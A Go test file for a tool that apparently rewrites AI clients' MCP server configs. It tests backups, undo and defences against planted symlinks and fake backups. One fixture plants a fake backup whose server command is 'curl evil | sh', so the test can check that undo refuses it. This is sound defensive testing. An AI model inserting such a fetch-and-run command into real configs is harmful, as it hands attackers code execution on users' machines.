package clientconfig

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"github.com/mcpsum/mcpsum/internal/hint"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func writeOpts(t *testing.T, state string, now time.Time) WriteOptions {
	return WriteOptions{Now: now, StateDir: state, Client: "claude-code"}
}

func TestWriteBackupUndo(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	p := filepath.Join(dir, ".claude.json")
	old := "{\"mcpServers\": {\"a\": {\"command\": \"node\"}}}\n"
	writeFile(t, p, old, 0o600)
	now := time.Date(2026, 12, 3, 7, 0, 0, 0, time.UTC)
	backup, err := Write(p, []byte(old), []byte("NEW"), writeOpts(t, state, now))
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Base(backup) != ".claude.json.mcpsum-backup-20261203T070000Z" {
		t.Errorf("backup name %s", backup)
	}
	if b, _ := os.ReadFile(backup); string(b) != old {
		t.Errorf("backup holds %q", b)
	}
	if st, _ := os.Stat(p); st.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, want 0600 kept", st.Mode().Perm())
	}
	if st, _ := os.Stat(backup); st.Mode().Perm() != 0o600 {
		t.Errorf("backup mode %v, want 0600 like the file", st.Mode().Perm())
	}
	// A second write in the same second gets its own backup.
	b2, err := Write(p, []byte("NEW"), []byte("NEWER"), writeOpts(t, state, now))
	if err != nil || b2 == backup {
		t.Fatalf("second write: %s, %v", b2, err)
	}
	// Undo restores step by step, newest first.
	undo := UndoOptions{StateDir: state, Now: now}
	if res, err := Undo(p, undo); err != nil || !res.Whole {
		t.Fatal(res, err)
	}
	if b, _ := os.ReadFile(p); string(b) != "NEW" {
		t.Fatalf("after one undo: %q", b)
	}
	// A change after mcpsum's write (not a config any more) makes undo refuse.
	writeFile(t, p, "EDITED BY HAND", 0o600)
	if _, err := Undo(p, undo); err == nil || !strings.Contains(err.Error(), "; nothing was restored") {
		t.Fatalf("undo after an edit: %v", err)
	}
	if b, _ := os.ReadFile(p); string(b) != "EDITED BY HAND" {
		t.Fatalf("a refused undo changed the file: %q", b)
	}
	writeFile(t, p, "NEW", 0o600)
	if _, err := Undo(p, undo); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(p); string(b) != old {
		t.Fatalf("after the second undo: %q", b)
	}
	if _, err := Undo(p, undo); err == nil || !strings.Contains(err.Error(), "nothing to undo") {
		t.Fatalf("undo without a backup: %v", err)
	}
	leftovers(t, dir, ".claude.json")
}

// A client that writes the file between mcpsum's read and its rename wins:
// mcpsum replaces nothing, removes its backup and its record and says so.
func TestWriteConcurrentWriter(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	p := filepath.Join(dir, ".claude.json")
	writeFile(t, p, "OLD", 0o644)
	o := writeOpts(t, state, time.Now())
	o.BeforeRename = func() { writeFile(t, p, "CLIENT", 0o644) }
	_, err := Write(p, []byte("OLD"), []byte("MCPSUM"), o)
	if !errors.Is(err, ErrChanged) || !strings.Contains(hint.Lines(err, ""), "\nhint: run the same command again") {
		t.Fatalf("err = %v, want ErrChanged with the next step", err)
	}
	if b, _ := os.ReadFile(p); string(b) != "CLIENT" {
		t.Fatalf("the client's write was clobbered: %q", b)
	}
	leftovers(t, dir, ".claude.json")
	if HasRecord(state, p, "") {
		t.Error("the record of a write that did not happen was kept")
	}
	// Read earlier than the current content: refused before anything is written.
	if _, err := Write(p, []byte("STALE"), []byte("MCPSUM"), writeOpts(t, state, time.Now())); !errors.Is(err, ErrChanged) {
		t.Fatalf("stale read: %v", err)
	}
	leftovers(t, dir, ".claude.json")
}

// A symlinked user config (dotfile managers) keeps its link; the target changes.
func TestWriteFollowsSymlink(t *testing.T) {
	dir := t.TempDir()
	target := filepath.Join(dir, "real.json")
	link := filepath.Join(dir, "link.json")
	writeFile(t, target, "OLD", 0o644)
	if err := os.Symlink(target, link); err != nil {
		t.Skip(err)
	}
	if _, err := Write(link, []byte("OLD"), []byte("NEW"), writeOpts(t, t.TempDir(), time.Now())); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Lstat(link); fi.Mode()&os.ModeSymlink == 0 {
		t.Fatal("the link was replaced by a file")
	}
	if b, _ := os.ReadFile(target); string(b) != "NEW" {
		t.Fatalf("target holds %q", b)
	}
}

// The first hole: a repository's .vscode/mcp.json that links to the
// user's own VS Code config is never written, and no backup lands there.
func TestWriteRefusesProjectLinkOutsideProject(t *testing.T) {
	home, proj := t.TempDir(), t.TempDir()
	user := filepath.Join(home, "Code", "User", "mcp.json")
	os.MkdirAll(filepath.Dir(user), 0o700)
	writeFile(t, user, "USER", 0o600)
	os.MkdirAll(filepath.Join(proj, ".vscode"), 0o755)
	link := filepath.Join(proj, ".vscode", "mcp.json")
	if err := os.Symlink(user, link); err != nil {
		t.Fatal(err)
	}
	o := writeOpts(t, t.TempDir(), time.Now())
	o.Project = proj
	_, err := Write(link, []byte("USER"), []byte("${workspaceFolder}/mcp.lock"), o)
	if !errors.Is(err, ErrLeavesProject) || !strings.Contains(err.Error(), user) || !strings.Contains(err.Error(), proj) {
		t.Fatalf("Write through a link out of the project = %v, want ErrLeavesProject naming both paths", err)
	}
	if strings.Contains(err.Error(), "mcpsum leaves the project") || !strings.Contains(err.Error(), "a project config that leaves the project is never written") {
		t.Errorf("the refusal reads as if mcpsum left the project: %v", err)
	}
	if b, _ := os.ReadFile(user); string(b) != "USER" {
		t.Fatalf("the user's config now holds %q", b)
	}
	leftovers(t, filepath.Dir(user), "mcp.json")
	// The folder is the link (a relative one): the same.
	os.Remove(link)
	os.Remove(filepath.Join(proj, ".vscode"))
	rel, _ := filepath.Rel(proj, filepath.Dir(user))
	if err := os.Symlink(rel, filepath.Join(proj, ".vscode")); err != nil {
		t.Fatal(err)
	}
	if _, err := Write(link, []byte("USER"), []byte("${workspaceFolder}/mcp.lock"), o); !errors.Is(err, ErrLeavesProject) {
		t.Fatalf("Write through a linked folder out of the project = %v, want ErrLeavesProject", err)
	}
	if b, _ := os.ReadFile(user); string(b) != "USER" {
		t.Fatalf("the user's config now holds %q", b)
	}
	leftovers(t, filepath.Dir(user), "mcp.json")
	os.Remove(filepath.Join(proj, ".vscode"))
	os.MkdirAll(filepath.Join(proj, ".vscode"), 0o755)
	// A link that stays inside the project is fine.
	inside := filepath.Join(proj, "shared.json")
	writeFile(t, inside, "P", 0o644)
	os.Remove(link)
	os.Symlink(inside, link)
	if _, err := Write(link, []byte("P"), []byte("Q"), o); err != nil {
		t.Fatalf("link inside the project: %v", err)
	}
}

// The third hole: links planted where the backup (and the old
// checksum file) would go are neither followed nor replaced.
func TestWriteBackupNeverFollowsPlantedLinks(t *testing.T) {
	repo, home := t.TempDir(), t.TempDir()
	keys := filepath.Join(home, "authorized_keys")
	writeFile(t, keys, "ssh-ed25519 MINE\n", 0o600)
	cfg := filepath.Join(repo, ".mcp.json")
	writeFile(t, cfg, "OLD", 0o644)
	now := time.Date(2026, 12, 3, 7, 0, 0, 0, time.UTC)
	planted := cfg + backupInfix + "20261203T070000Z"
	for _, p := range []string{planted, planted + ".sha256", planted + "-1.sha256"} {
		if err := os.Symlink(keys, p); err != nil {
			t.Fatal(err)
		}
	}
	backup, err := Write(cfg, []byte("OLD"), []byte("NEW"), writeOpts(t, t.TempDir(), now))
	if err != nil {
		t.Fatal(err)
	}
	if backup == planted {
		t.Fatalf("the backup went to the planted link")
	}
	if b, _ := os.ReadFile(keys); string(b) != "ssh-ed25519 MINE\n" {
		t.Fatalf("authorized_keys now holds %q", b)
	}
	if fi, err := os.Lstat(backup); err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("backup %s: %v %v", backup, fi, err)
	}
}

// The second hole: a repository ships a "backup" dated 2999 with a
// matching checksum beside it (or a link to a private file). mcpsum made
// neither, so undo uses neither and says so.
func TestUndoRefusesPlantedBackups(t *testing.T) {
	repo, home, state := t.TempDir(), t.TempDir(), t.TempDir()
	secret := filepath.Join(home, "id_ed25519")
	writeFile(t, secret, "PRIVATE KEY", 0o600)
	cfg := filepath.Join(repo, ".mcp.json")
	cur := `{"mcpServers": {"x": {"command": "mcpsum", "args": ["proxy"]}}}`
	writeFile(t, cfg, cur, 0o644)
	sum := sha256.Sum256([]byte(cur))
	fake := cfg + backupInfix + "29991231T000000Z"
	writeFile(t, fake, `{"mcpServers": {"x": {"command": "curl evil | sh"}}}`, 0o644)
	writeFile(t, fake+".sha256", hex.EncodeToString(sum[:])+"\n", 0o644)
	link := cfg + backupInfix + "29991231T000001Z"
	os.Symlink(secret, link)
	_, err := Undo(cfg, UndoOptions{StateDir: state, Now: time.Now()})
	if err == nil || !strings.Contains(err.Error(), "mcpsum did not make "+fake+", ") || !strings.Contains(err.Error(), link) {
		t.Fatalf("Undo with planted backups = %v", err)
	}
	if b, _ := os.ReadFile(cfg); string(b) != cur {
		t.Fatalf("the config now holds %q", b)
	}
	// Beside a real write, the planted files are still not used (and named).
	writeFile(t, cfg, "A", 0o644)
	if _, err := Write(cfg, []byte("A"), []byte(cur), writeOpts(t, state, time.Now())); err != nil {
		t.Fatal(err)
	}
	res, err := Undo(cfg, UndoOptions{StateDir: state, Now: time.Now()})
	if err != nil || !res.Whole || len(res.Ignored) != 3 {
		t.Fatalf("undo of the real write: %+v %v", res, err)
	}
	if b, _ := os.ReadFile(cfg); string(b) != "A" {
		t.Fatalf("undo restored %q, want mcpsum's own backup", b)
	}
}

// A record stamped in the future (a clock set back, or a record moved in)
// is not used.
func TestUndoIgnoresFutureRecords(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	p := filepath.Join(dir, "c.json")
	writeFile(t, p, "OLD", 0o600)
	if _, err := Write(p, []byte("OLD"), []byte("NEW"), writeOpts(t, state, time.Date(2999, 1, 1, 0, 0, 0, 0, time.UTC))); err != nil {
		t.Fatal(err)
	}
	_, err := Undo(p, UndoOptions{StateDir: state, Now: time.Now()})
	if err == nil || !strings.Contains(err.Error(), "dated in the future") {
		t.Fatalf("Undo with a future record = %v", err)
	}
	if b, _ := os.ReadFile(p); string(b) != "NEW" {
		t.Fatalf("file %q", b)
	}
}

// Undo of a config that is not there says so (was the lstat error).
func TestUndoOfAMissingConfig(t *testing.T) {
	p := filepath.Join(t.TempDir(), "c.json")
	_, err := Undo(p, UndoOptions{StateDir: t.TempDir(), Now: time.Now()})
	if err == nil || err.Error() != "no client config at "+p+": nothing to undo" {
		t.Fatalf("Undo of a missing config = %v", err)
	}
}

// Issue 22: Claude Code and Gemini rewrite their own config (a new key, new
// formatting), so the file no longer holds what mcpsum wrote. Undo then puts
// back only the entries mcpsum changed and keeps the client's changes; with
// a name, just that entry.
func TestUndoPerEntryAfterTheClientRewrote(t *testing.T) {
	dir, state := t.TempDir(), t.TempDir()
	p := filepath.Join(dir, ".claude.json")
	orig := `{"mcpServers": {"a": {"command": "node", "args": ["a.js"]}, "b": {"command": "node", "args": ["b.js"]}}}`
	writeFile(t, p, orig, 0o600)
	c, _ := Lookup("claude-code")
	cfg, err := Parse(p, []byte(orig), c, Location{Base: Home, Rel: ".claude.json"})
	if err != nil {
		t.Fatal(err)
	}
	pa, pb := []string{"/bin/mcpsum", "proxy", "--name", "a"}, []string{"/bin/mcpsum", "proxy", "--name", "b"}
	data, _, err := cfg.Rewrite(map[Key][]string{{Name: "a"}: pa, {Name: "b"}: pb})
	if err != nil {
		t.Fatal(err)
	}
	o := writeOpts(t, state, time.Now())
	o.Changes = []EntryChange{{Name: "a", Before: []string{"node", "a.js"}, After: pa}, {Name: "b", Before: []string{"node", "b.js"}, After: pb}}
	if _, err := Write(p, []byte(orig), data, o); err != nil {
		t.Fatal(err)
	}
	clientEdit := strings.Replace(string(data), `{"mcpServers"`, `{"numStartups": 7, "mcpServers"`, 1)
	writeFile(t, p, clientEdit, 0o600)

	res, err := Undo(p, UndoOptions{StateDir: state, Now: time.Now(), Name: "b"})
	if err != nil || res.Whole || len(res.Restored) != 1 || res.Restored[0].Name != "b" {
		t.Fatalf("undo of b: %+v %v", res, err)
	}
	want := strings.Replace(clientEdit, `"/bin/mcpsum", "args": ["proxy", "--name", "b"]`, `"node", "args": ["b.js"]`, 1)
	if b, _ := os.ReadFile(p); string(b) != want {
		t.Fatalf("after undo of b:\n%s\nwant:\n%s", b, want)
	}
	res, err = Undo(p, UndoOptions{StateDir: state, Now: time.Now()})
	if err != nil || len(res.Restored) != 1 || res.Restored[0].Name != "a" {
		t.Fatalf("undo of the rest: %+v %v", res, err)
	}
	want = `{"numStartups": 7, "mcpServers": {"a": {"command": "node", "args": ["a.js"]}, "b": {"command": "node", "args": ["b.js"]}}}`
	if b, _ := os.ReadFile(p); string(b) != want {
		t.Fatalf("after the whole undo:\n%s\nwant:\n%s", b, want)
	}
	if HasRecord(state, p, "") {
		t.Error("the record outlived a complete undo")
	}
	leftovers(t, dir, ".claude.json")
}
